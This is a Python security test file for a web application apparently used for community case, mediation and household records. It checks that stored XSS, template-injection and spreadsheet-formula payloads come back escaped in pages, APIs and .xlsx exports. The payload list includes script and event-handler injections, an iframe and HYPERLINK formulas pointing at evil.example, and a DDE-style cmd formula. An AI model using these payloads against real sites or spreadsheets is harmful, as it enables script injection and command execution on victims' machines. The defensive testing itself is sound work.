"""XSS: a corpus of payloads stored through every text field of every create form and API,
then rendered on every list, detail, print view, API answer and ``.xlsx`` export.

A page passes when none of the dangerous forms appears raw (only escaped), template syntax is
not evaluated, and the escaped payload is really there (so the check is not vacuous).
Spreadsheet cells hold the literal text, never a formula.
"""

from __future__ import annotations

import io
import re
from datetime import timedelta

import pytest
from openpyxl import load_workbook

from app.services.field import today as beijing_today
from tests.support import new_uuid

PAYLOADS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "</textarea><script>alert(2)</script>",
    "javascript:alert(1)",
    "ssti{{7*7}}ssti${7*7}#{7*7}",
    "＜script＞alert(1)＜/script＞\u202e<b>rtl</b>\u200b<iframe src=//evil.example>",
    '=HYPERLINK("http://evil.example","x")',
    '<a href="javascript:alert(1)">x</a><style>*{display:none}</style>',
]

#: substrings that must never appear in an HTML answer (case-insensitive)
FORBIDDEN = [
    "<script>alert",
    "<img src=x onerror",
    "<svg onload",
    "<iframe src=//evil",
    "<b>rtl</b>",
    "<style>*{display",
    'href="javascript:',
    "href='javascript:",
    "ssti49ssti",
]
ESCAPED_MARK = "&lt;script&gt;alert(1)&lt;/script&gt;"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def tagged(i: int, field: str) -> str:
    """Payload ``i`` for ``field``, with a short visible tag (fields stay distinguishable)."""
    return f"x{i}{field[:3]}{PAYLOADS[i]}"


def html_problems(url: str, response) -> list[tuple[str, str]]:
    if response.status_code >= 500:
        return [(url, f"status {response.status_code}")]
    kind = response.headers.get("content-type", "")
    text = response.text.lower()
    if "json" in kind:
        return []  # JSON is data, served as application/json (nosniff): not markup
    return [(url, bad) for bad in FORBIDDEN if bad.lower() in text]


async def render_all(
    s, urls: list[str], optional: tuple[str, ...] = ()
) -> tuple[list, dict[str, str]]:
    """Render ``urls``; those ending with one of ``optional`` may answer 303/404 (not applicable
    to this record, e.g. the opinion letter of a case without an opinion)."""
    problems, bodies = [], {}
    for url in urls:
        response = await s.get(url)
        problems += html_problems(url, response)
        if url.endswith(optional) and response.status_code in (303, 404):
            continue
        if response.status_code != 200:
            problems.append((url, f"status {response.status_code}"))
        bodies[url] = response.text
    return problems, bodies


def _id_from(response) -> int:
    return int(re.search(r"/(\d+)(?:$|[/?#])", response.headers["location"]).group(1))


async def test_validation_errors_echo_payloads_escaped(as_user):
    s = await as_user("grid")
    problems = []
    for i, _ in enumerate(PAYLOADS):
        response = await s.post_form(
            "/visits",
            {
                "client_uuid": new_uuid(),
                "visited_at": "yesterday-ish",  # invalid: the form comes back with the values
                "kind": "door",
                "address": tagged(i, "address"),
                "persons_met": tagged(i, "persons"),
                "summary": tagged(i, "summary"),
            },
            htmx=True,
        )
        assert response.status_code == 422
        problems += html_problems(f"/visits 422 #{i}", response)
    assert problems == []
    assert (
        ESCAPED_MARK
        in (
            await s.post_form(
                "/visits", {"summary": PAYLOADS[0], "visited_at": "yesterday-ish"}, htmx=True
            )
        ).text
    )


async def test_visits_form_and_api(as_user, sql):
    s = await as_user("grid")
    ids = []
    for i, _ in enumerate(PAYLOADS):
        response = await s.post_form(
            "/visits",
            {
                "client_uuid": new_uuid(),
                "kind": "door",
                "visited_at": "2026-11-20T10:00",
                "address": tagged(i, "address"),
                "persons_met": tagged(i, "persons"),
                "topics": ["dispute"],
                "summary": tagged(i, "summary"),
                "mood": "calm",
                "follow_up_due": str(beijing_today() + timedelta(days=3)),
            },
        )
        assert response.status_code == 303, response.text[:400]
        ids.append(_id_from(response))
        api = await s.post_json(
            "/api/v1/visits",
            {
                "client_uuid": new_uuid(),
                "address": tagged(i, "apiaddr"),
                "persons_met": tagged(i, "apipers"),
                "summary": tagged(i, "apisum"),
            },
        )
        assert api.status_code == 201, api.text
        assert api.json()["summary"] == tagged(i, "apisum")  # stored verbatim
        ids.append(api.json()["id"])
    urls = ["/visits", "/tasks", "/", "/households"]
    urls += [f"/visits/{v}" for v in ids] + [f"/visits/{v}/edit" for v in ids]
    urls += [f"/api/v1/visits/{v}" for v in ids] + ["/api/v1/visits"]
    problems, bodies = await render_all(s, urls)
    reviewer = await as_user("community")
    more, more_bodies = await render_all(reviewer, ["/review", "/visits", f"/visits/{ids[0]}"])
    assert problems + more == []
    assert ESCAPED_MARK in bodies[f"/visits/{ids[0]}"]
    assert ESCAPED_MARK in bodies["/visits"] or ESCAPED_MARK in more_bodies["/visits"]


async def test_calls_form_and_api(as_user):
    s = await as_user("grid")
    visit = await s.post_json(
        "/api/v1/visits", {"client_uuid": new_uuid(), "address": "回访路", "summary": "随访对象"}
    )
    ids = []
    for i, _ in enumerate(PAYLOADS):
        response = await s.post_form(
            "/calls",
            {
                "client_uuid": new_uuid(),
                "called_at": "2026-11-21T09:00",
                "subject_type": "visit",
                "subject_id": visit.json()["id"],
                "outcome": "reached",
                "satisfaction": "satisfied",
                "summary": tagged(i, "summary"),
            },
        )
        assert response.status_code == 303, response.text[:400]
        ids.append(_id_from(response))
        api = await s.post_json(
            "/api/v1/calls",
            {
                "client_uuid": new_uuid(),
                "subject_type": "visit",
                "subject_id": visit.json()["id"],
                "outcome": "reached",
                "summary": tagged(i, "apisum"),
            },
        )
        assert api.status_code == 201, api.text
        ids.append(api.json()["id"])
    urls = ["/calls", f"/visits/{visit.json()['id']}"]
    urls += [f"/calls/{c}" for c in ids] + [f"/calls/{c}/edit" for c in ids]
    urls += [f"/api/v1/calls/{c}" for c in ids]
    problems, bodies = await render_all(s, urls)
    assert problems == []
    assert ESCAPED_MARK in bodies[f"/calls/{ids[0]}"]


MEDIATION_TEXT = (
    "summary",
    "facts",
    "responsibilities",
    "agreement_terms",
    "performance_method",
)


async def test_mediations_form_api_sittings_and_agreement(as_user):
    s = await as_user("community")
    ids = []
    signed = beijing_today()
    for i, _ in enumerate(PAYLOADS):
        data = {
            "client_uuid": new_uuid(),
            "venue_unit_id": "25",
            "held_at": "2026-11-20T10:00",
            "dispute_type": "noise",
            "parties-0-name": tagged(i, "party0"),
            "parties-0-role": "applicant",
            "parties-1-name": tagged(i, "party1"),
            "parties-1-role": "respondent",
            "mediators-0-name": tagged(i, "mediator"),
            "mediators-0-kind": "people_mediator",
            "methods": ["law"],
            "outcome": "agreed_written",
            "performance_due": str(signed + timedelta(days=14)),
            "agreement_signed_on": str(signed),
            **{f: tagged(i, f) for f in MEDIATION_TEXT},
        }
        response = await s.post_form("/mediations", data)
        if response.status_code == 422:  # venue may differ: take the form's first option
            page = await s.get("/mediations/new")
            data["venue_unit_id"] = re.search(
                r'name="venue_unit_id".*?<option value="(\d+)"', page.text, re.S
            ).group(1)
            response = await s.post_form("/mediations", data)
        assert response.status_code == 303, response.text[:600]
        mediation_id = _id_from(response)
        ids.append(mediation_id)
        sitting = await s.post_form(
            f"/mediations/{mediation_id}/sessions",
            {
                "held_at": "2026-11-21T14:00",
                "attendees": tagged(i, "attendees"),
                "notes": tagged(i, "notes"),
            },
        )
        assert sitting.status_code in (303, 422), sitting.text[:400]
        assert not html_problems("sitting", sitting)
        api = await s.post_json(
            "/api/v1/mediations",
            {
                "client_uuid": new_uuid(),
                "dispute_type": "wages",
                "summary": tagged(i, "apisum"),
                "parties": [
                    {"name": tagged(i, "apip0"), "role": "applicant"},
                    {"name": tagged(i, "apip1"), "role": "respondent"},
                ],
                "outcome": "agreed_oral",
                "agreement_terms": tagged(i, "apiterms"),
            },
        )
        assert api.status_code == 201, api.text
        ids.append(api.json()["id"])
    urls = ["/mediations", "/review"]
    urls += [f"/mediations/{m}" for m in ids] + [f"/mediations/{m}/agreement" for m in ids]
    urls += [f"/api/v1/mediations/{m}" for m in ids]
    problems, bodies = await render_all(s, urls, optional=("/agreement",))
    assert problems == []
    assert ESCAPED_MARK in bodies[f"/mediations/{ids[0]}/agreement"]


async def test_cases_form_api_and_print_views(as_user):
    s = await as_user("desk")
    new_page = (await s.get("/cases/new")).text
    unit_id = re.search(r'name="unit_id".*?<option value="(\d+)"', new_page, re.S).group(1)
    ids = []
    for i, _ in enumerate(PAYLOADS):
        response = await s.post_form(
            "/cases",
            {
                "channel": "visit",
                "petitioner_name": tagged(i, "name"),
                "petitioner_phone": f"1381234{i:04d}",
                "petitioner_id_number": "",
                "group_size": "1",
                "unit_id": unit_id,
                "category": tagged(i, "category"),
                "content": tagged(i, "content"),
                "request": tagged(i, "request"),
            },
        )
        assert response.status_code == 303, response.text[:600]
        ids.append(_id_from(response))
        api = await s.post_json(
            "/api/v1/cases",
            {
                "channel": "letter",
                "petitioner_name": tagged(i, "apiname"),
                "petitioner_phone": f"1391234{i:04d}",
                "unit_id": int(unit_id),
                "category": tagged(i, "apicat"),
                "content": tagged(i, "apicontent"),
                "request": tagged(i, "apireq"),
            },
        )
        assert api.status_code == 201, api.text
        ids.append(api.json()["id"])
    urls = ["/cases", "/lists", "/cases/stats", "/cases/notifications", "/api/v1/cases"]
    for c in ids:
        urls += [f"/cases/{c}", f"/cases/{c}/opinion", f"/cases/{c}/petitioner"]
        urls.append(f"/api/v1/cases/{c}")
    problems, bodies = await render_all(s, urls, optional=("/opinion",))
    leader = await as_user("leader")
    more, _ = await render_all(leader, ["/cases", "/lists", f"/cases/{ids[0]}"])
    assert problems + more == []
    assert ESCAPED_MARK in bodies[f"/cases/{ids[0]}"]


async def test_risks_form(as_user):
    s = await as_user("street")
    page = (await s.get("/risks/new")).text
    unit_id = re.search(r'name="unit_id".*?<option value="(\d+)"', page, re.S).group(1)
    ids = []
    for i, _ in enumerate(PAYLOADS):
        response = await s.post_form(
            "/risks",
            {
                "title": tagged(i, "title"),
                "category": "security",
                "level": "low",
                "unit_id": unit_id,
                "place": tagged(i, "place"),
                "description": tagged(i, "description"),
                "measures": tagged(i, "measures"),
                "owner": tagged(i, "owner"),
                "deadline": str(beijing_today() + timedelta(days=7)),
            },
        )
        assert response.status_code == 303, response.text[:600]
        ids.append(_id_from(response))
    problems, bodies = await render_all(s, ["/risks", *(f"/risks/{r}" for r in ids)])
    assert problems == []
    assert ESCAPED_MARK in bodies[f"/risks/{ids[0]}"]


async def test_households_form_and_search(as_user):
    s = await as_user("grid")
    page = (await s.get("/households")).text
    grid_id = re.search(r'name="grid_id".*?<option value="(\d+)"', page, re.S).group(1)
    for i, _ in enumerate(PAYLOADS):
        response = await s.post_form(
            "/households",
            {
                "grid_id": grid_id,
                "address": tagged(i, "address"),
                "head_name": tagged(i, "head"),
                "head_phone": "13800001111",
                "size": "3",
                "tags": tagged(i, "tags")[:30],
            },
        )
        assert response.status_code in (200, 303), response.text[:600]
        assert not html_problems("/households POST", response)
    urls = ["/households", "/households/search?q=x0add", "/households/search?q=%3Cscript"]
    urls.append("/visits/new")
    problems, bodies = await render_all(s, urls)
    assert problems == []
    assert ESCAPED_MARK in bodies["/households"]


def _sheet_values(content: bytes) -> list[tuple]:
    wb = load_workbook(io.BytesIO(content))
    return [tuple(c for c in row) for row in wb.worksheets[0].iter_rows()]


async def test_admin_units_departments_users_and_their_exports(as_user, sql):
    s = await as_user("admin")
    made_units, made_users, made_depts = [], [], []
    try:
        for i, _ in enumerate(PAYLOADS):
            name = tagged(i, "dept")[:100]
            response = await s.post_form("/admin/departments", {"name": name})
            assert response.status_code in (200, 303), response.text[:400]
            made_depts.append(await sql.fetchval("SELECT id FROM department WHERE name=$1", name))
            code = f"XSS{i}{new_uuid()[:4]}"
            response = await s.post_form(
                "/admin/units",
                {"parent_id": "26", "name": tagged(i, "unit"), "tier": "compound", "code": code},
            )
            assert response.status_code in (200, 303), response.text[:400]
            made_units.append(await sql.fetchval("SELECT id FROM unit WHERE code=$1", code))
            username = f"xss{i}-{new_uuid()[:6]}"
            response = await s.post_form(
                "/admin/users",
                {
                    "username": username,
                    "full_name": tagged(i, "fullname")[:100],
                    "role": "grid_worker",
                    "unit_id": "26",
                    "phone": "13800002222",
                    "password": "long-enough-password",
                },
            )
            assert response.status_code == 303, response.text[:400]
            made_users.append(_id_from(response))
        # a name that is a spreadsheet formula, as the first character of the cell
        formula_code = f"XSSF{new_uuid()[:4]}"
        response = await s.post_form(
            "/admin/units",
            {"parent_id": "26", "name": FORMULA, "tier": "compound", "code": formula_code},
        )
        assert response.status_code in (200, 303), response.text[:400]
        made_units.append(await sql.fetchval("SELECT id FROM unit WHERE code=$1", formula_code))
        assert None not in made_units and None not in made_depts
        urls = ["/admin/departments", "/admin/units", "/admin/users", "/admin/audit"]
        urls += [f"/admin/users/{u}" for u in made_users]
        urls += ["/admin/users?q=xss", "/api/v1/units", "/api/v1/departments"]
        problems, bodies = await render_all(s, urls)
        street = await as_user("street")
        more, _ = await render_all(street, ["/dashboard", "/risks/new", "/visits"])
        assert problems + more == []
        assert ESCAPED_MARK in bodies["/admin/units"]

        # exports: every cell holds the literal text, and no cell is a formula
        for kind in ("units", "users"):
            response = await s.get(f"/admin/export/{kind}")
            assert response.status_code == 200
            wb = load_workbook(io.BytesIO(response.content))
            cells = [c for row in wb.worksheets[0].iter_rows() for c in row]
            formulas = [c.coordinate for c in cells if c.data_type == "f"]
            assert formulas == [], f"{kind}.xlsx has formula cells {formulas}"
            values = {c.value for c in cells}
            wanted = tagged(0, "unit") if kind == "units" else tagged(0, "fullname")[:100]
            assert wanted in values
            if kind == "units":
                assert FORMULA in values  # the literal text, as a string cell
    finally:
        for user_id in made_users:
            await sql.execute('DELETE FROM app_session WHERE "user" = $1', user_id)
            await sql.execute("UPDATE app_user SET active = false WHERE id = $1", user_id)
        for unit_id in made_units:
            if unit_id:
                await sql.execute("UPDATE unit SET name = 'xss-test-unit' WHERE id = $1", unit_id)


@pytest.mark.parametrize("value", ["=1+2", "+1+2", "-1+2", "@SUM(A1)", "=cmd|' /C calc'!A0"])
def test_workbook_cells_starting_with_formula_characters_stay_text(value):
    from app.services.spreadsheets import workbook_bytes

    content = workbook_bytes(("name", "count"), [[value, -5], ["plain", 3]], "t")
    wb = load_workbook(io.BytesIO(content))
    ws = wb.worksheets[0]
    assert ws["A2"].data_type == "s" and ws["A2"].value == value
    assert ws["B2"].value == -5 and ws["B2"].data_type == "n"  # numbers stay numbers
    assert ws["A3"].value == "plain"


async def test_key_persons_form_reveal_api_and_export(as_user):
    s = await as_user("community")
    page = (await s.get("/key-persons/new")).text
    unit_id = re.search(r'name="unit_id".*?<option value="(\d+)"', page, re.S).group(1)
    ids = []
    for i, _ in enumerate(PAYLOADS):
        response = await s.post_form(
            "/key-persons",
            {
                "name": tagged(i, "name")[:100],
                "address": tagged(i, "address"),
                "category": "repeat",
                "risk_level": "medium",
                "unit_id": unit_id,
                "leader": tagged(i, "leader")[:100],
                "measures": tagged(i, "measures"),
                "note": tagged(i, "note"),
            },
        )
        assert response.status_code == 303, response.text[:600]
        ids.append(_id_from(response))
    urls = ["/key-persons", "/api/v1/key-persons"]
    for p in ids:
        urls += [f"/key-persons/{p}", f"/key-persons/{p}/edit", f"/api/v1/key-persons/{p}"]
    problems, bodies = await render_all(s, urls)
    for p in ids:
        for htmx in (True, False):
            response = await s.post_form(f"/key-persons/{p}/reveal", {}, htmx=htmx)
            assert response.status_code == 200
            problems += html_problems(f"/key-persons/{p}/reveal htmx={htmx}", response)
    assert problems == []
    assert ESCAPED_MARK in bodies[f"/key-persons/{ids[0]}"]
    export = await s.get("/key-persons/export")
    assert export.status_code == 200
    wb = load_workbook(io.BytesIO(export.content))
    cells = [c for row in wb.worksheets[0].iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert tagged(0, "measures") in {c.value for c in cells}
